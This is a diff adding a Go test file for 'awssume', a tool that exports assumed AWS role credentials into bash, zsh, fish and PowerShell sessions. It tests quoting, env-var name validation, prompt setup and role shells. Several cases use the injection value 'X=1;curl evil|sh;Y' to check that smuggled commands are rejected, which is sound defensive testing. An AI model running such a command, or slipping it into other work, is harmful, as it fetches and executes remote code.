@@ -0,0 +1,182 @@
+package awssume
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+)
+
+func TestShellDialect(t *testing.T) {
+	testCases := []struct {
+		name    string
+		dialect ShellDialect
+		str     string
+	}{
+		{name: "bash", dialect: Bash, str: "bash"},
+		{name: "/bin/bash", dialect: Bash, str: "bash"},
+		{name: "/usr/local/bin/zsh", dialect: Zsh, str: "zsh"},
+		{name: "fish", dialect: Fish, str: "fish"},
+		{name: "pwsh.exe", dialect: PowerShell, str: "powershell"},
+		{name: "tcsh", dialect: UnknownShell, str: "UNKNOWN"},
+	}
+
+	for _, tc := range testCases {
+		var dialect ShellDialect
+		dialect.FromName(tc.name)
+		assert.Equal(t, tc.dialect, dialect)
+		assert.Equal(t, tc.str, dialect.String())
+	}
+}
+
+func TestShellDialectExport(t *testing.T) {
+	testCases := []struct {
+		dialect     ShellDialect
+		value       string
+		export      string
+		errExpected bool
+	}{
+		{
+			dialect: Bash,
+			value:   `it's $HOME`,
+			export:  `export SKUNK='it'\''s $HOME'`,
+		},
+		{
+			dialect: Zsh,
+			value:   "plain",
+			export:  `export SKUNK='plain'`,
+		},
+		{
+			dialect: Fish,
+			value:   `it's a\b`,
+			export:  `set -gx SKUNK 'it\'s a\\b'`,
+		},
+		{
+			dialect: PowerShell,
+			value:   `it's $Env:HOME`,
+			export:  `$Env:SKUNK = 'it''s $Env:HOME'`,
+		},
+		{
+			dialect:     UnknownShell,
+			value:       "plain",
+			errExpected: true,
+		},
+	}
+
+	for _, tc := range testCases {
+		export, err := tc.dialect.Export("SKUNK", tc.value)
+		if tc.errExpected {
+			assert.ErrorIs(t, err, ErrUnsupportedShell)
+		} else {
+			assert.NoError(t, err)
+		}
+
+		assert.Equal(t, tc.export, export)
+	}
+
+	for _, dialect := range []ShellDialect{Bash, Zsh, Fish, PowerShell} {
+		_, err := dialect.Export("X=1;curl evil|sh;Y", "plain")
+		assert.ErrorIs(t, err, ErrInvalidEnvVarName)
+	}
+}
+
+func TestValidateEnvVarName(t *testing.T) {
+	for _, tc := range []struct {
+		name  string
+		valid bool
+	}{
+		{name: "SKUNK", valid: true},
+		{name: "_skunk_2", valid: true},
+		{name: ""},
+		{name: "2SKUNK"},
+		{name: "SKUNK-BADGER"},
+		{name: "X=1;curl evil|sh;Y"},
+		{name: "SKÜNK"},
+	} {
+		err := ValidateEnvVarName(tc.name)
+		if tc.valid {
+			assert.NoError(t, err, tc.name)
+		} else {
+			assert.ErrorIs(t, err, ErrInvalidEnvVarName, tc.name)
+		}
+	}
+
+	assert.NoError(t, ValidateEnv(map[string]string{"A": "1", "B": "2"}))
+	assert.EqualError(
+		t,
+		ValidateEnv(map[string]string{"A": "1", "B-C": "2", "D E": "3"}),
+		`invalid environment variable name "B-C": `+ErrInvalidEnvVarName.Error(),
+	)
+}
+
+func TestEnvMapShellExports(t *testing.T) {
+	exports, err := NewEnvMap(map[string]string{
+		"B": "2",
+		"A": "1",
+	}).ShellExports(Bash)
+	assert.NoError(t, err)
+	assert.Equal(t, []string{"export A='1'", "export B='2'"}, exports)
+}
+
+func TestShellPromptSetup(t *testing.T) {
+	dir := t.TempDir()
+
+	args, env, err := shellPromptSetup("/bin/bash", dir)
+	assert.NoError(t, err)
+	assert.Equal(t, []string{"--rcfile", filepath.Join(dir, ".bashrc")}, args)
+	assert.Empty(t, env)
+	rc, err := os.ReadFile(filepath.Join(dir, ".bashrc"))
+	assert.NoError(t, err)
+	assert.Contains(t, string(rc), `PS1="(awssume:$AWSSUME_ROLE) $PS1"`)
+
+	t.Setenv("ZDOTDIR", "/home/skunk/.zsh")
+	args, env, err = shellPromptSetup("/usr/local/bin/zsh", dir)
+	assert.NoError(t, err)
+	assert.Empty(t, args)
+	assert.Equal(t, []string{"ZDOTDIR=" + dir}, env)
+	zshenv, err := os.ReadFile(filepath.Join(dir, ".zshenv"))
+	assert.NoError(t, err)
+	assert.Contains(t, string(zshenv), "export ZDOTDIR='/home/skunk/.zsh'")
+	zshrc, err := os.ReadFile(filepath.Join(dir, ".zshrc"))
+	assert.NoError(t, err)
+	assert.Contains(t, string(zshrc), `PROMPT="(awssume:$AWSSUME_ROLE) $PROMPT"`)
+	zprofile, err := os.ReadFile(filepath.Join(dir, ".zprofile"))
+	assert.NoError(t, err)
+	assert.Contains(t, string(zprofile), `. "$ZDOTDIR/.zprofile"`)
+	assert.Contains(t, string(zprofile), "export ZDOTDIR='"+dir+"'")
+	zlogin, err := os.ReadFile(filepath.Join(dir, ".zlogin"))
+	assert.NoError(t, err)
+	assert.Contains(t, string(zlogin), `. "$ZDOTDIR/.zlogin"`)
+
+	args, env, err = shellPromptSetup("fish", dir)
+	assert.NoError(t, err)
+	assert.Equal(t, "--init-command", args[0])
+	assert.Contains(t, args[1], "function fish_prompt")
+	assert.Empty(t, env)
+
+	args, env, err = shellPromptSetup("/bin/sh", dir)
+	assert.NoError(t, err)
+	assert.Empty(t, args)
+	assert.Empty(t, env)
+}
+
+func TestConfigShellRole(t *testing.T) {
+	cfg := newTestConfig(t, &NewConfigOpts{Assumer: &fakeAssumer{}}, &Role{
+		Alias: "skunk", SessionName: "skunk",
+	})
+
+	shell := filepath.Join(t.TempDir(), "shell")
+	assert.NoError(t, os.WriteFile(shell, []byte("#!/bin/sh\n"+
+		`[ "$AWSSUME_ROLE" = skunk ] && `+
+		`[ -n "$AWSSUME_EXPIRATION" ] && `+
+		`[ "$AWS_ACCESS_KEY_ID" = AKIAskunk ]`+"\n",
+	), 0o700))
+
+	t.Setenv(RoleEnvVar, "")
+	assert.NoError(t, cfg.ShellRole("skunk", 900, &ShellRoleOpts{Shell: shell}))
+
+	t.Setenv(RoleEnvVar, "badger")
+	assert.ErrorIs(t, cfg.ShellRole("skunk", 900, &ShellRoleOpts{Shell: shell}), ErrShellNesting)
+	assert.NoError(t, cfg.ShellRole("skunk", 900, &ShellRoleOpts{Shell: shell, Force: true}))
+}